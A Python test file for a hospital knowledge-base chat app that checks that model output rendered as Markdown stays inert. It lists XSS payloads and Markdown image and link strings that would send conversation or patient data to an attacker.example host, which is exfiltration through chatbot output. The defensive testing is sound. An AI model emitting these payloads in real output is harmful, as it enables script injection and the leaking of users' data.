"""Model output is made inert: no raw HTML, no image, links only to the app and allowed hosts."""

from __future__ import annotations

import pytest

from chat.web.safe_markdown import escape_text, safe_markdown
from tests.inert import ALLOWED, RENDERER, assert_inert

HOSTILE = [
    "<script>alert(1)</script>",
    "答案如下 <script>window.__pwned=1</script> [1]",
    '<img src=x onerror="alert(1)">',
    "看這張圖 <img src=x onerror=alert(1)>。",
    "<iframe src=https://attacker.example></iframe>",
    "<div onmouseover=alert(1)>hover</div>",
    "<!-- <script>alert(1)</script> -->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>click</a>",
    "<details open ontoggle=alert(1)>",
    "![x](http://attacker.example/?q=conversation)",
    "![摘要](https://attacker.example/log?q=病人姓名與病歷號)",
    '![x](http://attacker.example/a.png "title")',
    "![x][ref]\n\n[ref]: http://attacker.example/?q=secret",
    "![x]\n\n[x]: <http://attacker.example/?q=secret>",
    "[![badge](http://attacker.example/b.svg)](http://attacker.example/)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](//attacker.example/p.png)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[點這裡](https://attacker.example/login)",
    "[ok?](https://intranet.hospital.tw.attacker.example/)",
    "[ok?](https://intranet.hospital.tw@attacker.example/)",
    "[x](//attacker.example/)",
    "[x](/\\attacker.example/)",
    "[x][r]\n\n[r]: https://attacker.example/",
    "<https://attacker.example/?q=x>",
    "<javascript:alert(1)>",
    "<mailto:someone@attacker.example>",
    "Visit http://attacker.example/?q=x now",
    "請造訪 www.attacker.example 取得更多資訊",
    "寫信到 someone@attacker.example",
    "`code` then ![x](http://attacker.example/)",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | ![x](http://attacker.example/) |",
    "> quote ![x](http://attacker.example/)\n> <script>alert(1)</script>",
    "- item ![x](http://attacker.example/)\n- <b onclick=alert(1)>b</b>",
    "1. 第一步 [x](https://attacker.example/)\n2. 第二步",
    "**bold ![x](http://attacker.example/)** *em <script>x</script>*",
    "# Heading <img src=x>",
    "Setext <img src=x>\n===",
    "text\\\n<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞ ！［x］（http://attacker.example/）",
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_output_renders_inert(hostile: str) -> None:
    assert_inert(safe_markdown(hostile, ALLOWED))


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("門診時間為週一至週五 [1]。", "門診時間為週一至週五 \\[1\\]。"),
        ("**Visiting hours** end at *8 pm* [2].", "**Visiting hours** end at *8 pm* \\[2\\]."),
        ("- 網路掛號\n- 電話掛號", "- 網路掛號\n- 電話掛號"),
        ("1. Bring your card\n2. Wait", "1. Bring your card\n2. Wait"),
        ("Dose: `5 mg`", "Dose: `5 mg`"),
        ("```python\nprint('<b>')\n```", "```python\nprint('<b>')\n```"),
        ("> 注意事項", "> 注意事項"),
        ("3.5 mg\n-5 °C", "3.5 mg\n\\-5 °C"),
        ("[文件](/kbchat/documents/abc)", "[文件](</kbchat/documents/abc>)"),
        (
            "[內網](https://intranet.hospital.tw/a b)",
            "\\[內網\\]\\(https://intranet.hospital.tw/a b\\)",
        ),
        (
            "[內網](https://intranet.hospital.tw/guide)",
            "[內網](<https://intranet.hospital.tw/guide>)",
        ),
        ("see https://intranet.hospital.tw/x", "see https://intranet.hospital.tw/x"),
    ],
)
def test_ordinary_markdown_keeps_its_formatting(source: str, expected: str) -> None:
    assert safe_markdown(source, ALLOWED) == expected


def test_an_image_becomes_its_alt_text_and_its_url_inert_code() -> None:
    shown = safe_markdown("![摘要](http://attacker.example/?q=對話)")
    assert shown == "摘要 (`http://attacker.example/?q=%E5%B0%8D%E8%A9%B1`)"
    page = assert_inert(shown)
    assert [tag for tag, _ in page.tags] == ["p", "code"]


def test_a_link_elsewhere_keeps_its_text_and_shows_its_url_as_code() -> None:
    shown = safe_markdown("請見 [掛號說明](https://attacker.example/reg)。")
    assert shown == "請見 掛號說明 (`https://attacker.example/reg`)。"


def test_raw_html_shows_as_the_text_it_is() -> None:
    shown = safe_markdown("a <script>alert(1)</script> b")
    page = assert_inert(shown)
    assert "".join(page.text).strip() == "a <script>alert(1)</script> b"


def test_with_no_allowed_hosts_only_relative_links_survive() -> None:
    shown = safe_markdown("[a](https://intranet.hospital.tw/) [b](/kbchat/x)")
    assert shown == "a (`https://intranet.hospital.tw/`) [b](</kbchat/x>)"


def test_code_keeps_backticks_and_html_as_text() -> None:
    shown = safe_markdown("``a ` <img src=x onerror=alert(1)>``")
    page = assert_inert(shown)
    assert ("code", {}) in page.tags
    assert shown == "``a ` <img src=x onerror=alert(1)>``"


def test_escape_text_shows_markdown_as_itself() -> None:
    text = "**not bold** [x](y) <b> `c` ![i](j) #h"
    assert RENDERER.renderInline(escape_text(text)) == (
        "**not bold** [x](y) &lt;b&gt; `c` ![i](j) #h"
    )


def test_the_shown_answer_and_its_file_names_are_inert() -> None:
    from chat.answering.answers import Answer
    from chat.answering.citations import Citation
    from chat.web.answer_view import answer_markdown

    hostile_file = "![x](http:⁄⁄attacker.example)<img src=x onerror=alert(1)>.pdf"
    citation = Citation(1, hostile_file, 2, "text", "d" * 64, True, "c1")
    answer = Answer(
        "探視時間到晚上八點 [1]。![x](http://attacker.example/?q=對話) <script>alert(1)</script>",
        [citation],
        "kb-assistant",
        "model",
        True,
    )
    shown = answer_markdown(answer, "zh-TW", allowed_hosts=())
    assert_inert(shown)
    assert shown.startswith("探視時間到晚上八點 \\[1\\]。x (`http://attacker.example/")
    label = "\\[1\\] --x--http---attacker.example--img src-x onerror-alert-1--.pdf 第 2 頁"
    assert f"- [{label}](/kbchat/view/{'d' * 64}/2?mark=text#evidence)" in shown


def test_a_source_links_to_its_page_marking_the_evidence_and_a_searched_page_marks_none() -> None:
    from urllib.parse import parse_qs, urlsplit

    from chat.answering.citations import Citation
    from chat.web.answer_view import viewer_url

    evidence = "加護病房探病時間為上午十一點。 … 每次三十分鐘 (30 min) & 兩位訪客。"
    source = Citation(1, "guide.pdf", 2, "整頁的文字", "d" * 64, True, "c1", evidence)
    url = urlsplit(viewer_url(source))
    assert (url.path, url.fragment) == (f"/kbchat/view/{'d' * 64}/2", "evidence")
    assert parse_qs(url.query)["mark"] == [
        "加護病房探病時間為上午十一點。",
        "每次三十分鐘 (30 min) & 兩位訪客。",
    ]
    assert "(" not in url.query and " " not in url.query  # nothing that ends a Markdown link
    no_evidence = Citation(1, "guide.pdf", 2, "整頁的文字", "d" * 64, False, "c1")
    assert parse_qs(urlsplit(viewer_url(no_evidence)).query)["mark"] == ["整頁的文字"]
    assert viewer_url(source, marked=False) == f"/kbchat/view/{'d' * 64}/2"


def test_pages_searched_but_not_used_are_named_apart_from_the_sources() -> None:
    from chat.answering.answers import Answer
    from chat.answering.citations import Citation
    from chat.web.answer_view import answer_markdown

    source = Citation(1, "guide.pdf", 2, "text", "d" * 64, True, "c1")
    searched = [Citation(2, "tennis<b>.pdf", 5, "text", "e" * 64, False, "c2")]
    answer = Answer(
        "探視時間到晚上八點 [1]。", [source], "kb-assistant", "m", True, searched=searched
    )
    shown = answer_markdown(answer, "zh-TW", allowed_hosts=())
    assert_inert(shown)
    sources, rest = shown.split("其他搜尋過、未用於回答的頁面或段落：")
    assert "guide.pdf 第 2 頁" in sources and "tennis" not in sources
    assert "tennis-b-.pdf 第 5 頁" in rest
    refusal = Answer("知識庫沒有涵蓋這個問題。", [], "kb-assistant", "m", False, searched=searched)
    assert "tennis" not in answer_markdown(refusal, "zh-TW", allowed_hosts=())
